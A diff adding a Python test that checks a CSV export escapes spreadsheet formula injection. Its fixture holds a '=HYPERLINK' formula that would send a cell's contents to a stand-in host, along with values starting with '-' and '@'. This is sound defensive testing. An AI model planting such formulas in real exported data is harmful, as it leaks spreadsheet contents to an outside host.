@@ -257,6 +257,28 @@ def test_csv_has_a_row_per_candidate_and_a_column_per_metric(
     assert cross["status"] == "check_failed" and cross["score"] == cross["ns"] == ""
 
 
+def test_csv_writes_model_text_that_a_spreadsheet_would_run_as_text(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path / 'evolve.db'}"
+    hostile = {
+        "operator": "-diff",
+        "model": "@provider:m",
+        "summary": '=HYPERLINK("http://x.example/?"&A1,"see")',
+    }
+    with Store(url) as store:
+        store.create_run("hostile", task_path="t.yaml", task_yaml="", seed=0, settings={})
+        seed = store.plant_seed("hostile", program(0))
+        child = store.add_candidate(
+            "hostile", program(1), parent_ids=[seed.id], island=0, generation=1, mutation=hostile
+        )
+        assert child is not None
+    exported = cli(url, "export", "hostile", "--format", "csv")
+    assert exported.exit_code == 0, exported.output
+    _, row = list(csv.DictReader(io.StringIO(exported.output)))
+    assert [row["operator"], row["model"], row["summary"]] == [
+        "'" + hostile[key] for key in ("operator", "model", "summary")
+    ]
+
+
 def test_dir_writes_programs_and_a_manifest_and_refuses_paths_that_leave(tmp_path: Path) -> None:
     url = f"sqlite:///{tmp_path / 'evolve.db'}"
     with Store(url) as store:
